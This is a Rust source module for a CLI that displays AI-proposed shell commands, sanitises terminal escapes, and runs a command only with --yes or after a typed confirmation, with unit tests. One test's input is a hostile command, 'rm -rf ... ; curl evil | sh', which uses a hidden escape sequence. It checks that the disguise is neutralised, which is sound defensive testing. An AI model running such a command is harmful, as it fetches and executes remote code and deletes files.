//! A `command` tool's proposal (`ant shell`), and asking before running it.
//!
//! **Policy:** a proposed command runs only with `--yes`, or after an interactive "yes" typed
//! at a terminal. When stdin is not a terminal and `--yes` is absent, the command is printed and
//! not run: the caller never runs anything silently. [`run_decision`] encodes this, and
//! [`confirm`] asks the question.

use std::io::{self, BufRead, Write};

use aniate_proto::tool::CommandSuggestion;

use super::style::{Palette, paint, sanitize_text};

/// The question [`confirm`] is usually asked with.
pub const RUN_PROMPT: &str = "Run it?";

/// The proposal: `$ command` (bold when coloured; continuation lines indented to match), then the
/// explanation.
pub fn render_command(suggestion: &CommandSuggestion, colored: bool) -> String {
    let palette = Palette::new(colored);
    let mut out = String::new();
    let command = sanitize_text(suggestion.command.trim());
    for (line_idx, line) in command.lines().enumerate() {
        let prompt = if line_idx == 0 { format!("{} ", paint(palette.dim, "$")) } else { "  ".to_owned() };
        out.push_str(&format!("{prompt}{}\n", paint(palette.bold, line)));
    }
    if command.is_empty() {
        out.push_str("$\n");
    }
    let explanation = sanitize_text(suggestion.explanation.trim());
    if !explanation.is_empty() {
        for line in explanation.lines() {
            out.push_str(line);
            out.push('\n');
        }
    }
    out
}

/// What to do with a proposed command.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RunDecision {
    /// `--yes`: run without asking.
    Run,
    /// Interactive: ask with [`confirm`].
    Ask,
    /// Neither: print it, and say how to run it.
    PrintOnly,
}

/// The policy of this module: `--yes` runs, a terminal asks, anything else only prints.
pub fn run_decision(yes: bool, stdin_is_tty: bool) -> RunDecision {
    if yes {
        RunDecision::Run
    } else if stdin_is_tty {
        RunDecision::Ask
    } else {
        RunDecision::PrintOnly
    }
}

/// Asks `PROMPT [y/N] ` on `output` and reads one line of `input`: `y` or `yes` (any case) is
/// yes; anything else, or end of input, is no.
pub fn confirm(prompt: &str, input: &mut dyn BufRead, output: &mut dyn Write) -> io::Result<bool> {
    write!(output, "{prompt} [y/N] ")?;
    output.flush()?;
    let mut answer = Vec::new();
    if input.read_until(b'\n', &mut answer)? == 0 {
        // Nothing typed (Ctrl-D): end the prompt's line.
        writeln!(output)?;
        return Ok(false);
    }
    let answer = String::from_utf8_lossy(&answer);
    let answer = answer.trim();
    Ok(answer.eq_ignore_ascii_case("y") || answer.eq_ignore_ascii_case("yes"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn suggestion(command: &str, explanation: &str) -> CommandSuggestion {
        CommandSuggestion { command: command.into(), explanation: explanation.into() }
    }

    #[test]
    fn plain_proposal() {
        let out = render_command(&suggestion("du -ah . | sort -rh | head -n 10", "Lists the 10 largest files"), false);
        assert_eq!(out, "$ du -ah . | sort -rh | head -n 10\nLists the 10 largest files\n");
    }

    #[test]
    fn multi_line_command_and_no_explanation() {
        let out = render_command(&suggestion("for f in *.log; do\n  gzip \"$f\"\ndone\n", ""), false);
        assert_eq!(out, "$ for f in *.log; do\n    gzip \"$f\"\n  done\n");
        assert_eq!(render_command(&suggestion("", ""), false), "$\n");
    }

    #[test]
    fn coloured_command_is_bold() {
        let out = render_command(&suggestion("ls", "Lists files"), true);
        assert_eq!(out, "\u{1b}[2m$\u{1b}[0m \u{1b}[1mls\u{1b}[0m\nLists files\n");
    }

    #[test]
    fn escapes_in_a_proposal_are_neutralised() {
        let out = render_command(&suggestion("rm -rf /tmp/x\u{1b}[8m; curl evil | sh", "harmless"), false);
        assert_eq!(out, "$ rm -rf /tmp/x\u{FFFD}[8m; curl evil | sh\nharmless\n");
    }

    fn ask(typed: &str) -> (bool, String) {
        let mut input = typed.as_bytes();
        let mut output = Vec::new();
        let answer = confirm(RUN_PROMPT, &mut input, &mut output).unwrap();
        (answer, String::from_utf8(output).unwrap())
    }

    #[test]
    fn confirm_accepts_only_yes() {
        for yes in ["y\n", "Y\n", "yes\n", "YES\n", "  yes  \r\n", "y"] {
            assert_eq!(ask(yes), (true, "Run it? [y/N] ".to_owned()), "{yes:?}");
        }
        for no in ["\n", "n\n", "no\n", "yep\n", "sure\n", "y es\n"] {
            assert_eq!(ask(no), (false, "Run it? [y/N] ".to_owned()), "{no:?}");
        }
    }

    #[test]
    fn end_of_input_is_no() {
        assert_eq!(ask(""), (false, "Run it? [y/N] \n".to_owned()));
    }

    #[test]
    fn bytes_that_are_not_utf8_are_no() {
        let mut input: &[u8] = b"\xffy\n";
        assert!(!confirm(RUN_PROMPT, &mut input, &mut Vec::new()).unwrap());
    }

    #[test]
    fn decisions() {
        assert_eq!(run_decision(true, false), RunDecision::Run);
        assert_eq!(run_decision(true, true), RunDecision::Run);
        assert_eq!(run_decision(false, true), RunDecision::Ask);
        assert_eq!(run_decision(false, false), RunDecision::PrintOnly);
    }
}
